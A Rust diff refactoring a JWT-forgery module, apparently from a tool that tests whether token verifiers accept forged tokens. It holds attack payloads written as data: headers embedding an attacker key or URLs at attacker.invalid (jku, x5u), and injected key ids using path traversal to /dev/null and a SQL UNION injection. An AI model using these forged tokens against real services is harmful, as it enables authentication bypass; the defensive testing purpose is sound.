@@ -2,45 +2,66 @@
 //!
 //! Most have a real signature, made with the attacker's key.
 
+use aws_lc_rs::digest::{SHA1_FOR_LEGACY_USE_ONLY, SHA256, digest};
+use aws_lc_rs::hmac::HMAC_SHA256;
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
-use jsonwebtoken::Algorithm;
 use serde_json::{Value, json};
 
 use crate::error::ForgeryError;
 use crate::signing_key::{SigningKey, sign_hmac_token};
-use crate::token::{ForgedToken, Token, without_member};
+use crate::token::{ForgedToken, Token, encode_base64url, without_member};
 
-pub(crate) fn forge_tokens(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
-    let mut forged = embedded_keys(good, attacker)?;
-    forged.extend(unusual_key_ids(good, attacker)?);
-    forged.extend(injected_key_ids(good)?);
+pub(crate) fn forge_tokens(
+    good: &Token,
+    known_key_id: Option<&str>,
+    attacker: &SigningKey,
+) -> Result<Vec<ForgedToken>, ForgeryError> {
+    let mut forged = embedded_keys(good, known_key_id, attacker)?;
+    forged.extend(unusual_key_ids(good, known_key_id.unwrap_or_default(), attacker)?);
+    forged.extend(injected_key_ids(good));
     forged.extend(critical_parameters(good, attacker)?);
     Ok(forged)
 }
 
 /// Returns tokens whose header contains the key that signed them, or points to it.
-fn embedded_keys(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
-    let mut jwk = attacker.jwk()?;
-    jwk["kid"] = good.header["kid"].clone();
+fn embedded_keys(
+    good: &Token,
+    known_key_id: Option<&str>,
+    attacker: &SigningKey,
+) -> Result<Vec<ForgedToken>, ForgeryError> {
+    let mut jwk = attacker.jwk();
+    if let Some(kid) = known_key_id {
+        jwk["kid"] = json!(kid);
+    }
+    let certificate = attacker.self_signed_certificate()?;
+    let thumbprint = |hash| encode_base64url(digest(hash, &certificate));
     let mut forged = Vec::new();
     for (name, value) in [
         ("jwk", jwk),
         ("jku", json!("https://attacker.invalid/jwks.json")),
         ("x5u", json!("https://attacker.invalid/certificate.pem")),
-        ("x5c", json!([STANDARD.encode(attacker.self_signed_certificate()?)])),
+        ("x5c", json!([STANDARD.encode(&certificate)])),
+        ("x5t", json!(thumbprint(&SHA1_FOR_LEGACY_USE_ONLY))),
+        ("x5t#S256", json!(thumbprint(&SHA256))),
     ] {
-        let header = good.header_with(name, value);
+        let mut header = without_member(good.header_with(name, value), "kid");
         let token = attacker.sign_token(&header, &good.claims)?;
-        forged.push(ForgedToken::new(format!("the attacker's key in {name}, known key id"), token));
-        let token = attacker.sign_token(&without_member(header, "kid"), &good.claims)?;
         forged.push(ForgedToken::new(format!("the attacker's key in {name}, no key id"), token));
+        if let Some(kid) = known_key_id {
+            header["kid"] = json!(kid);
+            let token = attacker.sign_token(&header, &good.claims)?;
+            forged.push(ForgedToken::new(format!("the attacker's key in {name}, known key id"), token));
+        }
     }
     Ok(forged)
 }
 
-fn unusual_key_ids(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
-    let known = good.key_id().unwrap_or_default();
+fn unusual_key_ids(
+    good: &Token,
+    known: &str,
+    attacker: &SigningKey,
+) -> Result<Vec<ForgedToken>, ForgeryError> {
     let mut forged = Vec::new();
     for (name, kid) in [
         ("unknown", json!("restctl-unknown")),
@@ -62,17 +83,16 @@ fn unusual_key_ids(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToke
 }
 
 /// A verifier that looks up the key id in a file or a database would find the secret that the attacker chose.
-fn injected_key_ids(good: &Token) -> Result<Vec<ForgedToken>, ForgeryError> {
-    let mut forged = Vec::new();
-    for (name, kid, secret) in [
+fn injected_key_ids(good: &Token) -> impl Iterator<Item = ForgedToken> {
+    let injected = [
         ("path to an empty file", "../../../../../../dev/null", ""),
         ("SQL that returns the secret", "x' UNION SELECT 'secret' -- ", "secret"),
-    ] {
+    ];
+    injected.into_iter().map(|(name, kid, secret)| {
         let header = json!({"typ": "JWT", "alg": "HS256", "kid": kid});
-        let token = sign_hmac_token(Algorithm::HS256, &header, &good.claims, secret.as_bytes())?;
-        forged.push(ForgedToken::new(format!("key id: {name}"), token));
-    }
-    Ok(forged)
+        let token = sign_hmac_token(HMAC_SHA256, &header, &good.claims, secret.as_bytes());
+        ForgedToken::new(format!("key id: {name}"), token)
+    })
 }
 
 /// RFC 7515, section 4.1.11, and RFC 7797.
